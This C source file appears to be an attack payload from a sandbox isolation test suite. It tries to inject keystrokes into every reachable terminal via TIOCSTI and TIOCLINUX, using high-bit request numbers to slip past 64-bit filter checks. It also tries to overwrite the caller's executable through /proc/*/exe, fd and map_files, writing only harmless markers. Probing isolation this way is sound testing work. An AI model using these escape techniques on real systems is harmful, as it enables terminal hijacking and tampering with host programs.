/* SPDX-License-Identifier: LGPL-2.1-or-later */
/* Commands of the payload that attack the caller's terminal and the caller's program. */
#include "payload.h"

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

/* ---- inject: into every terminal that can be reached ---- */

static void push(const char *way, int fd)
{
	/* the kernel looks at 32 bits of the request; a filter that compares 64 does not see it */
	static const unsigned long requests[] = { TIOCSTI, 0xabcd00000000UL | TIOCSTI };
	struct { char sub, text[32]; } paste = { 3 /* TIOCL_PASTESEL */, "" };
	size_t i;

	for (i = 0; i < 2; i++) {
		if (syscall(SYS_ioctl, fd, requests[i], "x") == 0)
			printf("injected %s\n", way);
		else
			printf("tried %s: %s\n", way, strerrorname_np(errno));
	}
	if (syscall(SYS_ioctl, fd, (long)TIOCLINUX, &paste) == 0)
		printf("injected %s by TIOCLINUX\n", way);
}

static void push_path(const char *path)
{
	const char *name = strrchr(path, '/') + 1;
	int fd;

	/* each open of it makes a terminal of the container's own */
	if (strcmp(name, "ptmx") == 0)
		return;
	fd = open(path, O_RDWR | O_NONBLOCK);
	if (fd < 0)
		return;
	if (isatty(fd)) {
		push(path, fd);
		if (ioctl(fd, TIOCSCTTY, 1) == 0) {
			printf("took over %s\n", path);
			push(path, fd);
		}
	}
	close(fd);
}

static void push_all_in(const char *dir_path)
{
	struct dirent *entry;
	DIR *dir = opendir(dir_path);
	char path[512];

	while (dir && (entry = readdir(dir))) {
		snprintf(path, sizeof(path), "%s/%s", dir_path, entry->d_name);
		push_path(path);
	}
	if (dir)
		closedir(dir);
}

int cmd_inject(char **arg)
{
	static const char *const ways[] = { "/dev/tty", "/dev/console", "/dev/tty0", "/dev/tty1",
					    "/dev/ttyS0", "/proc/self/fd/0", "/proc/1/fd/0" };
	char name[32];
	size_t i;
	int fd;

	(void)arg;
	for (fd = 0; fd < 1024; fd++) {
		if (!isatty(fd))
			continue;
		snprintf(name, sizeof(name), "fd %d", fd);
		push(name, fd);
		if (ioctl(fd, TIOCSCTTY, 1) == 0 || ioctl(fd, TIOCSCTTY, 0) == 0) {
			printf("took over fd %d\n", fd);
			push(name, fd);
		}
	}
	for (i = 0; i < sizeof(ways) / sizeof(ways[0]); i++)
		push_path(ways[i]);
	push_all_in("/dev/pts");
	push_all_in("/dev");
	puts("tried all");
	return 0;
}

/* ---- rewrite: the program file of the caller ---- */

static unsigned long want_dev, want_ino;

static void reach(const char *way, const char *path)
{
	struct stat st;
	int fd;

	if (stat(path, &st) || st.st_dev != want_dev || st.st_ino != want_ino)
		return;
	printf("reached %s\n", way);
	fd = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
	/* busy is allowed, and a matter of waiting for the end of the caller */
	printf("%s %s\n", fd >= 0 || errno == ETXTBSY ? "writable" : strerrorname_np(errno), way);
	if (fd >= 0) {
		if (write(fd, "evil\n", 5) == 5)
			printf("written %s\n", way);
		close(fd);
	}
}

static void reach_by_pid(const char *pid)
{
	struct dirent *entry;
	char path[512];
	DIR *dir;

	snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	reach("exe", path);
	snprintf(path, sizeof(path), "/proc/%s/fd", pid);
	dir = opendir(path);
	while (dir && (entry = readdir(dir))) {
		snprintf(path, sizeof(path), "/proc/%s/fd/%s", pid, entry->d_name);
		reach("fd", path);
	}
	if (dir)
		closedir(dir);
	snprintf(path, sizeof(path), "/proc/%s/map_files", pid);
	dir = opendir(path);
	while (dir && (entry = readdir(dir))) {
		snprintf(path, sizeof(path), "/proc/%s/map_files/%s", pid, entry->d_name);
		reach("map_files", path);
	}
	if (dir)
		closedir(dir);
}

/* rewrite DEV:INO: that file, by every process's links; what follows is for other arguments */
int cmd_rewrite(char **arg)
{
	struct dirent *entry;
	DIR *dir;

	if (!arg[0] || sscanf(arg[0], "%lx:%lu", &want_dev, &want_ino) != 2)
		return 124;
	dir = opendir("/proc");
	while (dir && (entry = readdir(dir)))
		if (entry->d_name[0] >= '0' && entry->d_name[0] <= '9')
			reach_by_pid(entry->d_name);
	if (dir)
		closedir(dir);
	puts("tried all");
	return 0;
}
